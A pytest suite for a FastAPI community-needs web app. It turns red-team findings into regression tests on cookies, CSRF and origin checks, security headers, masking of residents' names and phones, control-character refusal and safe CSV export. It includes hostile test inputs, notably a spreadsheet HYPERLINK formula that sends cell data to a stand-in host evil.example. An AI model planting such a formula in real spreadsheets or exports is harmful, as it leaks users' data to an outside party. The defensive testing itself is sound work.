"""What a red-team run broke, each reproduced as it was found and checked
closed, through the test client on the small workbook: the token's cookie
and the pages' forms, the security headers, masking for viewers wherever a
person or a need's title shows, text that breaks things later, formulas in
CSV reports, and errors that say something about the server."""

from __future__ import annotations

import csv
import io
import logging
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient

from api.main import create_app
from api.session import cookie_name
from api.tokens import TOKEN_FILE, Role, TokenStore
from graph.connection import Graph
from graph.settings import Settings
from tests.api.conftest import SMALL, Tokens, auth, graph_counts, page_cookie
from tests.loaders.workbooks import read_table

RESIDENT_NEED = {
    "id": "N900",
    "title": "李秀英老人反映 13812345678 家中漏水",
    "kind": "complaint",
    "category_id": "cat_dispute_neighbour",
    "place_id": "B02",
    "urgency": 3,
    "raised_on": "2024-06-01",
}
"""A need whose title names a resident and her phone, as 12345 titles do."""

LATER = "2030-01-01"
"""A day by which every open need is stale (G14), so the audit names them all."""

SECURITY_HEADERS = {
    "x-content-type-options": "nosniff",
    "x-frame-options": "DENY",
    "referrer-policy": "same-origin",
}


def page_client(app: FastAPI, token: str | None) -> TestClient:
    made = TestClient(app, follow_redirects=False)
    if token is not None:
        made.cookies.set(page_cookie(app), token)
    return made


def csrf_of(html: str) -> str:
    found = re.search(r'name="csrf" value="([0-9a-f]{64})"', html)
    assert found is not None, "the page carries no CSRF token"
    return found.group(1)


# The token's cookie and the pages' forms


def test_the_cookie_is_http_only_and_named_for_the_instance(
    app: FastAPI, client: TestClient, small: Graph, tokens: Tokens, tmp_path: Path
) -> None:
    answer = page_client(app, None).post("/session", data={"token": tokens.viewer, "next": "/"})
    assert answer.status_code == 303
    cookie = answer.headers["set-cookie"]
    assert cookie.startswith(page_cookie(app) + "=") and "httponly" in cookie.lower()
    home = app.state.settings.civicgraph_home
    names = {cookie_name(home, 8000), cookie_name(home, 8001), cookie_name(tmp_path, 8000)}
    assert len(names) == 3 and all(name.startswith("civicgraph_") for name in names)
    # A second server, with a home of its own, keeps a cookie of its own.
    other_settings = app.state.settings.model_copy(update={"civicgraph_home": tmp_path})
    other = create_app(other_settings, graph=small)
    _, clear = TokenStore.for_settings(other_settings).create(Role.VIEWER, name="other")
    signed_in = page_client(other, None).post("/session", data={"token": clear, "next": "/"})
    assert signed_in.headers["set-cookie"].startswith(page_cookie(other) + "=")
    assert page_cookie(other) != page_cookie(app)


def test_signing_out_is_taken_only_from_this_site(
    app: FastAPI, small: Graph, tokens: Tokens
) -> None:
    browser = page_client(app, tokens.viewer)
    refused = browser.post("/session/end", headers={"Origin": "http://127.0.0.1:8199"})
    assert refused.status_code == 403 and "set-cookie" not in refused.headers
    also_refused = browser.post("/session/end", headers={"Referer": "http://evil.example/x"})
    assert also_refused.status_code == 403
    taken = browser.post("/session/end", headers={"Origin": "http://testserver"})
    assert taken.status_code == 303 and f'{page_cookie(app)}=""' in taken.headers["set-cookie"]


def test_the_assign_form_needs_this_site_and_the_csrf_token(
    app: FastAPI, client: TestClient, fresh: Graph, tokens: Tokens
) -> None:
    editor = page_client(app, tokens.editor)
    csrf = csrf_of(editor.get("/needs/N07").text)
    viewer = page_client(app, tokens.viewer)
    viewer_csrf = csrf_of(viewer.get("/needs/N07").text)
    assert viewer_csrf != csrf
    here = {"Origin": "http://testserver"}
    attempts = [
        (editor, {"resource_id": "SV05"}, here),
        (editor, {"resource_id": "SV05", "csrf": "0" * 64}, here),
        (editor, {"resource_id": "SV05", "csrf": viewer_csrf}, here),
        (editor, {"resource_id": "SV05", "csrf": csrf}, {"Origin": "http://127.0.0.1:8199"}),
        (editor, {"resource_id": "SV05", "csrf": csrf}, {"Origin": "null"}),
        (viewer, {"resource_id": "SV05", "csrf": viewer_csrf}, here),
    ]
    before = graph_counts(fresh)
    for browser, form, headers in attempts:
        answer = browser.post("/needs/N07/assign", data=form, headers=headers)
        assert answer.status_code == 403, (form, headers, answer.status_code)
    assert graph_counts(fresh) == before
    need = client.get("/api/needs/N07", headers=auth(tokens.editor)).json()
    assert need["status"] == "open" and need["assigned_to"] is None
    taken = editor.post(
        "/needs/N07/assign", data={"resource_id": "SV05", "csrf": csrf}, headers=here
    )
    assert taken.status_code == 303


# Security headers


@pytest.mark.parametrize(
    "path", ["/", "/audit", "/explore?community=C01", "/session", "/api/docs", "/api/stats"]
)
def test_every_answer_carries_the_security_headers(
    app: FastAPI, small: Graph, tokens: Tokens, path: str
) -> None:
    browser = page_client(app, tokens.admin)
    answer = browser.get(path, headers=auth(tokens.admin))
    assert answer.status_code == 200, answer.text[-800:]
    for name, value in SECURITY_HEADERS.items():
        assert answer.headers[name] == value, name
    policy = answer.headers["content-security-policy"]
    assert "frame-ancestors 'none'" in policy and "'unsafe-inline'" not in policy
    if answer.headers["content-type"].startswith("text/html"):
        nonce = re.search(r"'nonce-([^']+)'", policy)
        assert nonce is not None
        assert "script-src 'self' 'nonce-" in policy
        inline = re.findall(
            r"<(?:script|style)(?![^>]*\b(?:src=|type=\"application/json\"))([^>]*)>",
            answer.text,
        )
        assert inline or path.startswith("/api/")
        assert all(f'nonce="{nonce.group(1)}"' in attributes for attributes in inline)
    else:
        assert policy.startswith("default-src 'none'")
    # Each page has a nonce of its own.
    again = browser.get(path, headers=auth(tokens.admin)).headers["content-security-policy"]
    assert again != policy or "nonce" not in policy


def test_the_static_script_and_errors_carry_them_too(
    client: TestClient, small: Graph, tokens: Tokens
) -> None:
    for answer in (
        client.get("/static/vis-network.min.js"),
        client.get("/api/nodes/NOPE", headers=auth(tokens.admin)),
        client.get("/api/health"),
    ):
        for name, value in SECURITY_HEADERS.items():
            assert answer.headers[name] == value


# Viewers see no person unmasked


@pytest.fixture()
def resident_need(client: TestClient, fresh: Graph, tokens: Tokens) -> Iterator[str]:
    made = client.post("/api/needs", json=RESIDENT_NEED, headers=auth(tokens.editor))
    assert made.status_code == 201, made.text
    yield str(RESIDENT_NEED["id"])


def test_a_viewer_never_sees_the_resident_in_a_need_title(
    app: FastAPI, client: TestClient, resident_need: str, tokens: Tokens
) -> None:
    need = resident_need
    pages = [
        f"/needs/{need}",
        f"/explore?center={need}&depth=1",
        "/explore?center=B02&depth=1",
        "/explore?community=C01&needs=1",
        f"/audit?as_of={LATER}",
        f"/audit?rule=G14&as_of={LATER}",
        f"/audit/report?as_of={LATER}",
        f"/audit/findings.csv?as_of={LATER}",
        f"/?q={need}",
    ]
    api = [
        f"/api/needs/{need}",
        f"/api/needs/{need}/candidates",
        f"/api/needs/{need}/route",
        f"/api/nodes/{need}",
        f"/api/nodes/{need}/graphml",
        "/api/nodes/B02",
        f"/api/search?q={need}",
        f"/api/audit?as_of={LATER}&limit=500",
        f"/api/audit?format=csv&as_of={LATER}",
        f"/api/audit?format=html&as_of={LATER}",
    ]
    for token in (tokens.viewer, tokens.viewer_c01):
        browser = page_client(app, token)
        answers = [browser.get(path) for path in pages]
        answers += [client.get(path, headers=auth(token)) for path in api]
        for answer in answers:
            assert answer.status_code == 200, (answer.url, answer.status_code)
            assert "李秀英" not in answer.text and "13812345678" not in answer.text, answer.url
            assert "李**老人" in answer.text or "N900" in answer.text, answer.url
    # Whoever may see it whole does.
    whole = page_client(app, tokens.editor).get(f"/explore?center={need}&depth=1").text
    assert "李秀英" in whole and "13812345678" in whole


def test_the_explorer_centred_on_a_person_masks_the_name_everywhere(
    app: FastAPI, small: Graph, tokens: Tokens
) -> None:
    viewer = page_client(app, tokens.viewer).get("/explore?center=P01&depth=1").text
    assert "张建国" not in viewer
    title = re.search(r"<title>(.*?)</title>", viewer, re.S)
    assert title is not None and "张**" in title.group(1)
    assert "张** 周边关系网" in viewer
    admin = page_client(app, tokens.admin).get("/explore?center=P01&depth=1").text
    assert "张建国 周边关系网" in admin


def test_a_viewer_cannot_find_a_person_by_name(
    client: TestClient, small: Graph, tokens: Tokens
) -> None:
    people = read_table(SMALL, "people.csv")
    header = people[0]
    names = [row[header.index("name")] for row in people[1:]]
    assert len(names) > 10
    for token in (tokens.viewer, tokens.viewer_c01, tokens.viewer_s01):
        for name in names:
            for query in (name, name[:2], name[1:]):
                answer = client.get("/api/search", params={"q": query}, headers=auth(token))
                assert answer.status_code == 200
                found = [item for item in answer.json()["items"] if "Person" in item["labels"]]
                assert found == [], (query, found)
    # An editor still finds them by name.
    editor = client.get("/api/search", params={"q": names[0]}, headers=auth(tokens.editor))
    assert any(item["name"] == names[0] for item in editor.json()["items"])


# Input that breaks things later


@pytest.mark.parametrize(
    ("change", "problem"),
    [
        ({"title": "漏水\x07"}, "control character U+0007"),
        ({"title": "\x00"}, "control character U+0000"),
        ({"title": "漏水\r严重"}, "control character U+000D"),
        ({"title": "长" * 201}, "at most 200"),
        ({"place_id": "B02\x1b"}, "control character U+001B"),
        ({"category_id": "cat\x7f"}, "control character U+007F"),
    ],
)
def test_control_characters_and_long_titles_are_refused(
    client: TestClient, fresh: Graph, tokens: Tokens, change: dict[str, str], problem: str
) -> None:
    before = graph_counts(fresh)
    answer = client.post(
        "/api/needs", json={**RESIDENT_NEED, **change}, headers=auth(tokens.editor)
    )
    assert answer.status_code == 422, answer.text
    assert problem in answer.json()["detail"]
    assert graph_counts(fresh) == before


def test_other_text_fields_refuse_control_characters(
    client: TestClient, fresh: Graph, tokens: Tokens
) -> None:
    editor, admin = auth(tokens.editor), auth(tokens.admin)
    assert client.patch("/api/needs/N01", json={"title": "a\x08b"}, headers=editor).status_code == (
        422
    )
    assert (
        client.post(
            "/api/needs/N01/assign", json={"resource_id": "SV01\x00"}, headers=editor
        ).status_code
        == 422
    )
    assert (
        client.post("/api/tokens", json={"role": "viewer", "name": "x\x00"}, headers=admin)
    ).status_code == 422
    assert client.get("/api/search", params={"q": "如意\x01"}, headers=editor).status_code == 422
    # Tabs and line ends are whitespace, not control characters: a title is
    # kept on one line.
    fine = client.patch(
        "/api/needs/N01", json={"title": "独居老人\t需要助餐\r\n每天"}, headers=editor
    )
    assert fine.status_code == 200 and fine.json()["title"] == "独居老人 需要助餐 每天"


# CSV reports are safe to open in Excel


FORMULA_TITLE = '=HYPERLINK("http://evil.example/?d="&A1,"点我查看")'


def test_a_formula_in_a_title_reaches_the_csv_as_text(
    app: FastAPI, client: TestClient, fresh: Graph, tokens: Tokens
) -> None:
    body = {**RESIDENT_NEED, "id": "N901", "title": FORMULA_TITLE}
    assert client.post("/api/needs", json=body, headers=auth(tokens.editor)).status_code == 201
    for text in (
        client.get(f"/api/audit?format=csv&as_of={LATER}", headers=auth(tokens.admin)).text,
        page_client(app, tokens.admin).get(f"/audit/findings.csv?as_of={LATER}").text,
    ):
        rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
        cells = [cell for row in rows for cell in row]
        assert "'" + FORMULA_TITLE in cells
        assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


# Errors say nothing about the server


def test_a_damaged_token_file_answers_503_without_its_path(
    small: Graph, api_settings: Settings, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    settings = api_settings.model_copy(update={"civicgraph_home": tmp_path})
    _, clear = TokenStore.for_settings(settings).create(Role.ADMIN, name="before")
    (tmp_path / TOKEN_FILE).write_text('{"tokens": [{"id": ', encoding="utf-8")
    app = create_app(settings, graph=small)
    with TestClient(app) as damaged, caplog.at_level(logging.ERROR, logger="civicgraph.api"):
        for answer in (
            damaged.get("/api/stats", headers=auth(clear)),
            damaged.get("/api/nodes/C01", headers=auth(clear)),
            page_client(app, clear).get("/"),
        ):
            assert answer.status_code == 503, answer.text
            assert answer.json()["error"] == "token_store_unavailable"
            assert str(tmp_path) not in answer.text and TOKEN_FILE not in answer.text
    assert any(str(tmp_path) in record.getMessage() for record in caplog.records)
